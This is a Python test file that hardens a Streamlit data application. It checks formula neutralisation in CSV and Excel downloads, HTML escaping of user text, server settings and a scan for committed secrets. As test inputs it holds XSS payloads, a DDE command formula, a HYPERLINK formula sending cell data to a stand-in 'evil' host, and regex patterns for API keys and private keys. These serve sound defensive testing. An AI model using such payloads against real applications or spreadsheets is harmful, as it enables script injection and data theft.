"""Security hardening: formula injection in downloads, HTML escaping of user text in the
pages, the Streamlit server settings (XSRF, CORS, upload limit, error details, data export) and no
secrets in the repository.

The HTML checks put a hostile submitter name, file name, problem title, owner, event note and a
hostile cell value (quoted back by the import's error message) into a copy of the demo database,
render the pages through AppTest, and assert that the raw tag never reaches an `st.html` element
or a markdown element that allows HTML (the escaped form `&lt;img` may, and must, appear).
"""

from __future__ import annotations

import csv
import io
import re
import sqlite3
import tomllib
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
import sqlalchemy as sa
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from ingest.reader import DEFAULT_MAX_BYTES
from sheets.safety import FORMULA_TRIGGERS, neutralise_cell, neutralise_frame
from store import Store
from store.schema_apps import problem, problem_event
from store.store import Batch
from tests.app_helpers import run
from ui import downloads

ROOT = Path(__file__).resolve().parent.parent
XSS = "<img src=x onerror=alert(1)>"
XSS_FILE = "<script>alert(2)</script>.xlsx"
XSS_TITLE = "<svg onload=alert(3)>整改"
RAW = ("<img src=x", "<script>", "<svg onload")
COUNTY = "330282"  # 慈溪市
MONTH = "2022-03"


# -- formula injection in exports ----------------------------------------------------------------------------
@pytest.mark.parametrize(("value", "expected"), [
    ("=1+2", "'=1+2"), ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"), ("+1", "'+1"), ("-1+2", "'-1+2"),
    ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("上城区", "上城区"), ("", ""),
    ("＝1+2", "'＝1+2"), ("a=b", "a=b"), (-3, -3), (-3.5, -3.5), (0, 0), (None, None), (True, True),
])
def test_neutralise_cell(value: object, expected: object) -> None:
    assert neutralise_cell(value) == expected
    assert type(neutralise_cell(value)) is type(expected)


def _frame() -> pd.DataFrame:
    return pd.DataFrame({
        "region": ["330102", "330106", "330110", "330111"],
        "name": ["=HYPERLINK(\"http://evil/?\"&A1,\"点此\")", "+cmd", "@SUM(1,2)", "上城区"],
        "who": [XSS, "-2+3", "\t=1", "张三"],
        "value": [-3.0, 12.5, -0.25, np.nan],
        "count": [-1, 2, 3, 4],
        "=danger": ["x", "y", "z", "w"],
    })


def test_csv_download_neutralises_formulas_and_keeps_numbers() -> None:
    raw = downloads.csv_bytes(_frame())
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    header, body = rows[0], rows[1:]
    assert header[-1] == "'=danger"
    for row in body:
        for cell, col in zip(row, header, strict=True):
            if col in ("value", "count"):
                continue
            assert not cell.startswith(FORMULA_TRIGGERS), (col, cell)
    back = pd.read_csv(io.BytesIO(raw), encoding="utf-8-sig", dtype={"region": str})
    assert back["value"].tolist()[:3] == [-3.0, 12.5, -0.25] and back["count"].tolist() == [-1, 2, 3, 4]
    assert back["name"].tolist()[0].startswith("'=HYPERLINK") and back["name"].tolist()[3] == "上城区"
    assert back["region"].tolist() == ["330102", "330106", "330110", "330111"]


def test_excel_download_has_no_formula_cells_and_numbers_stay_numeric() -> None:
    ws = load_workbook(io.BytesIO(downloads.xlsx_bytes(_frame(), "=sheet"))).active
    cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
    assert cells and not [c.coordinate for c in cells if c.data_type == "f"]
    for c in cells:
        if isinstance(c.value, str):
            assert c.data_type == "s" and not c.value.startswith(FORMULA_TRIGGERS), (c.coordinate, c.value)
    header = [c.value for c in ws[1]]
    col = {h: i for i, h in enumerate(header)}
    values = [r[col["value"]].value for r in ws.iter_rows(min_row=2)]
    assert values[:3] == [-3.0, 12.5, -0.25] and all(ws.cell(row=2, column=col["count"] + 1).data_type == "n"
                                                      for _ in [0])
    assert ws.cell(row=2, column=col["name"] + 1).value.startswith("'=HYPERLINK")


NUMBERS = st.one_of(st.integers(-10**9, 10**9), st.floats(allow_nan=False, allow_infinity=False))


@settings(max_examples=60, deadline=None)
@given(st.lists(st.tuples(st.text(max_size=12), NUMBERS), min_size=1, max_size=8))  # any text: controls, formulas
def test_no_download_cell_can_start_a_formula(rows: list[tuple[str, float]]) -> None:
    df = pd.DataFrame(rows, columns=["text", "number"])
    out = neutralise_frame(df)
    assert all(not (isinstance(v, str) and v.startswith(FORMULA_TRIGGERS)) for v in out["text"])
    assert out["number"].tolist() == df["number"].tolist()  # numbers untouched, negatives included
    got = list(csv.reader(io.StringIO(downloads.csv_bytes(df).decode("utf-8-sig"), newline="")))[1:]
    assert all(not r[0].startswith(FORMULA_TRIGGERS) for r in got if r)
    ws = load_workbook(io.BytesIO(downloads.xlsx_bytes(df))).active
    assert not [c for row in ws.iter_rows() for c in row if c.data_type == "f"]


# -- user text is never raw HTML -----------------------------------------------------------------------------
@pytest.fixture
def hostile_db(app_db, tmp_path) -> str:
    """A copy of the demo database with hostile text wherever people type: submitter, file name, problems."""
    src, dst_path = sqlite3.connect(app_db.removeprefix("sqlite:///")), tmp_path / "hostile.sqlite"
    dst = sqlite3.connect(dst_path)
    with dst:
        src.backup(dst)
    src.close()
    dst.close()
    url = f"sqlite:///{dst_path}"
    s = Store(url)
    s.write_batch(Batch(source="import", region_code=COUNTY, period=MONTH, file_name=XSS_FILE, submitted_by=XSS,
                        checksum="0" * 64),
                  pd.DataFrame([{"region_code": COUNTY, "measure_code": "gov_cases",
                                 "obs_date": pd.Timestamp(MONTH + "-01").date(), "value": 1.0}]))
    with s.engine.begin() as conn:
        pid = conn.execute(sa.select(problem.c.id).where(problem.c.region_code == "330106").limit(1)).scalar_one()
        conn.execute(problem.update().where(problem.c.id == pid).values(title_zh=XSS_TITLE, owner_zh=XSS))
        conn.execute(problem_event.update().where(problem_event.c.problem_id == pid).values(note_zh=XSS, actor_zh=XSS))
        code = conn.execute(sa.select(problem.c.code).where(problem.c.id == pid)).scalar_one()
    s.engine.dispose()
    return url + "#" + code


def assert_no_raw_html(at) -> str:
    """No hostile tag in an st.html element or in markdown that allows HTML; returns the HTML text seen."""
    html = "\n".join(str(e.value) for e in at.get("html"))
    for tag in RAW:
        assert tag not in html, (tag, html[max(0, html.find(tag) - 200): html.find(tag) + 200])
    for md in at.markdown:
        if md.allow_html:
            assert not any(tag in md.value for tag in RAW), md.value
    return html


def test_batch_history_and_import_messages_are_not_html(hostile_db, use_db) -> None:
    url = hostile_db.split("#")[0]
    use_db(url)
    at = run("pages/data_in.py", reporter=COUNTY, month=MONTH)
    assert_no_raw_html(at)
    shown = "\n".join(e.value.to_csv() for e in at.dataframe)
    assert XSS in shown or XSS_FILE in shown  # the hostile batch is listed, as text in a data grid
    # an upload by a hostile user whose file quotes a hostile cell back in the error message
    at.text_input(key="data_user").input(XSS)
    data = f"区划代码,期间,指标代码,数值\r\n{COUNTY},{MONTH},gov_cases,{XSS}\r\n".encode()
    at.file_uploader(key="data_upload_0").set_value((XSS_FILE.replace(".xlsx", ".csv"), data, "text/csv"))
    at.run()
    assert not at.exception, [e.message for e in at.exception]
    assert at.error  # refused: the value is not a number
    assert_no_raw_html(at)
    meta = [c.value for c in at.caption if "alert" in c.value]
    assert meta and all("<script>" not in v and "\\<script\\>" in v for v in meta)  # markdown-escaped file name
    found = "\n".join(at.table[0].value.astype(str).agg(" ".join, axis=1)) if at.table else ""
    assert "不是数字" in found


def test_quality_page_is_not_html(hostile_db, use_db) -> None:
    use_db(hostile_db.split("#")[0])
    at = run("pages/quality.py")
    assert_no_raw_html(at)


def test_problem_list_and_history_escape_titles_owners_and_notes(hostile_db, use_db) -> None:
    url, code = hostile_db.split("#")
    use_db(url)
    at = run("pages/system.py", system="party", section="problems", county="330106", problem=code)
    html = assert_no_raw_html(at)
    assert "&lt;svg onload=alert(3)&gt;整改" in html and "&lt;img src=x onerror=alert(1)&gt;" in html


def test_every_html_call_in_pages_escapes_or_uses_constants() -> None:
    """A static guard: every f-string placeholder inside st.html(...) in ui/ and pages/ is wrapped in an
    escape call, or is one of our own constants (colours, numbers, CSS, already-escaped fragments)."""
    allowed = re.compile(r"^(_?html\.escape|escape|_esc|html\.\w+|fmt\.\w+|t\(|c\b|colour|bg\b|mom_[cg]|yoy_[cg]"
                         r"|score|STATUS_COLOURS|EVENT_COLOURS|COLOURS|r\[\"change_colour\"\]|r\[\"rank\"\]|att\b"
                         r"|e\.event_date|p\[\"deadline\"\]|len\(|n_entries|badge|reported|ctx\.period\.label|month"
                         r"|int\(|\w+_tile\(|_tile\(|CSS|KIOSK"
                         r"|board$|s$|here\[)")  # board, s: parts of i18n keys inside t(f"..."); here[...]: numbers
    bad = []
    trusted = {  # (file, placeholder): why it needs no escape call
        ("pages/map.py", "county"): "a region code checked against the geography's counties",
        ("pages/map.py", "x"): "hover lines built from the catalogue, the geography and formatted numbers",
        ("pages/map.py", '"".join(trs)'): "table rows whose cells are escaped where they are built",
        ("pages/present.py", "back"): "a page link built from the period label and the language",
        ("ui/auth.py", "display"): "CSS `{display:none}` in a plain string, not a placeholder",
        ("ui/phone.py", '"".join(chips)'): "the header's chips, each escaped where it is built",
    }
    for path in sorted([*ROOT.glob("ui/*.py"), *ROOT.glob("pages/*.py")]):
        rel = str(path.relative_to(ROOT))
        src = path.read_text(encoding="utf-8")
        for m in re.finditer(r"st\.html\(", src):
            depth, i = 1, m.end()
            while depth and i < len(src):
                depth += {"(": 1, ")": -1}.get(src[i], 0)
                i += 1
            call = src[m.end(): i - 1]
            for expr in re.findall(r"(?<!\{)\{([^{}:!]+)(?:[:!][^{}]*)?\}(?!\})", call):
                e = expr.strip()
                if not e or e.isdigit() or allowed.match(e) or (rel, e) in trusted:
                    continue
                bad.append(f"{rel}: {{{e}}}")
    assert not bad, bad


# -- server configuration and secrets ------------------------------------------------------------------------
def _config() -> dict:
    return tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text(encoding="utf-8"))


def test_streamlit_server_is_hardened() -> None:
    cfg = _config()
    server, client = cfg["server"], cfg["client"]
    assert server["enableXsrfProtection"] is True
    assert server["enableCORS"] is True  # no Access-Control-Allow-Origin: *, no cross-origin WebSocket
    assert server["maxUploadSize"] == DEFAULT_MAX_BYTES // 2**20 == 20
    assert client["showErrorDetails"] in ("type", "none")  # no tracebacks or messages in the browser
    assert client["disableDataExport"] is True  # st.dataframe's own CSV export does not neutralise formulas
    assert cfg["browser"]["gatherUsageStats"] is False


def test_streamlit_reads_the_same_settings() -> None:
    """Streamlit's own parser agrees with the file (parsed afresh, then the session's options restored)."""
    from streamlit import config

    details = config.get_option("client.showErrorDetails")
    try:
        config.get_config_options(force_reparse=True)
        assert config.get_option("server.enableXsrfProtection") is True
        assert config.get_option("server.maxUploadSize") == 20
        assert config.get_option("client.disableDataExport") is True
        assert config.get_option("client.showErrorDetails") in ("type", "none")
    finally:
        config.set_option("client.showErrorDetails", details)  # the tests' full error details (conftest)


def test_the_server_never_looks_up_its_external_ip(monkeypatch) -> None:
    """Without a configured address Streamlit asks checkip.amazonaws.com at start-up (and in its origin
    check): a request leaving the intranet. The configured serverAddress keeps it local."""
    from streamlit import config, net_util
    from streamlit.web import bootstrap
    from streamlit.web.server import server_util

    asked: list[str] = []
    monkeypatch.setattr(net_util, "get_external_ip", lambda: asked.append("external ip"))
    monkeypatch.chdir(ROOT)
    details = config.get_option("client.showErrorDetails")
    try:
        config.get_config_options(force_reparse=True)
        assert config.is_manually_set("browser.serverAddress")
        bootstrap._print_url(False)  # the start-up banner
        assert server_util.is_url_from_allowed_origins("http://localhost:8501")
        assert not asked
    finally:
        config.set_option("client.showErrorDetails", details)


def test_upload_widget_accepts_only_xlsx_and_csv() -> None:
    from ingest.formats import IMPORT_FORMATS, IMPORT_SUFFIXES
    from scheduler.jobs import SUFFIXES

    assert IMPORT_FORMATS == ("xlsx", "csv") and SUFFIXES == IMPORT_SUFFIXES == {".xlsx", ".csv"}
    src = (ROOT / "pages" / "data_in.py").read_text(encoding="utf-8")
    calls = re.findall(r"st\.file_uploader\((.*?)\)\n", src, re.S)
    assert calls and all("type=list(IMPORT_FORMATS)" in c for c in calls)  # the one list, nothing else


def test_secrets_file_and_local_data_are_ignored() -> None:
    lines = {ln.strip() for ln in (ROOT / ".gitignore").read_text(encoding="utf-8").splitlines()}
    assert ".streamlit/secrets.toml" in lines and "var/" in lines


SECRET_PATTERNS = [
    re.compile(r"-----BEGIN (?:RSA |EC |DSA |OPENSSH )?PRIVATE KEY-----"),
    re.compile(r"\bAKIA[0-9A-Z]{16}\b"),
    re.compile(r"\bgh[pousr]_[A-Za-z0-9]{36}\b"),
    re.compile(r"\bxox[abprs]-[A-Za-z0-9-]{10,}"),
    re.compile(r"\bsk-[A-Za-z0-9]{32,}"),
    re.compile(r"(?i)\b(?:password|passwd|secret|api_?key|access_?token)\b\s*[=:]\s*[\"'][^\"'\s]{12,}[\"']"),
    re.compile(r"[a-z+]+://[^/\s:@\"']+:([^@\s/\"']{4,})@"),  # a URL with a password in it
]
PLACEHOLDERS = {"s3cret", "secret", "password", "changeme", "postgres", "cockpit", "root", "example"}
SCANNED = {".py", ".toml", ".ini", ".cfg", ".yaml", ".yml", ".md", ".txt", ".json", ".env", ".sh"}
NOT_OURS = {".venv", ".git", "var", "node_modules", ".hypothesis", ".pytest_cache", ".ruff_cache", "__pycache__",
            "bench/results"}


def test_no_secret_looking_strings_are_committed() -> None:
    """Database URLs, passwords and keys come from the environment (DATABASE_URL) or Streamlit secrets."""
    hits = []
    assert not (ROOT / ".env").exists() or ".env" in (ROOT / ".gitignore").read_text()
    for path in ROOT.rglob("*"):
        rel = path.relative_to(ROOT).as_posix()
        if (not path.is_file() or path.suffix not in SCANNED or any(rel == d or rel.startswith(d + "/")
                                                                     for d in NOT_OURS)
                or rel == ".streamlit/secrets.toml" or path.stat().st_size > 2_000_000):
            continue
        text = path.read_text(encoding="utf-8", errors="ignore")
        for pat in SECRET_PATTERNS:
            for m in pat.finditer(text):
                if m.groups() and m.group(1).lower() in PLACEHOLDERS:
                    continue  # test and documentation placeholders such as postgres://cockpit:s3cret@
                hits.append(f"{rel}: {m.group(0)[:40]}")
    assert not hits, hits
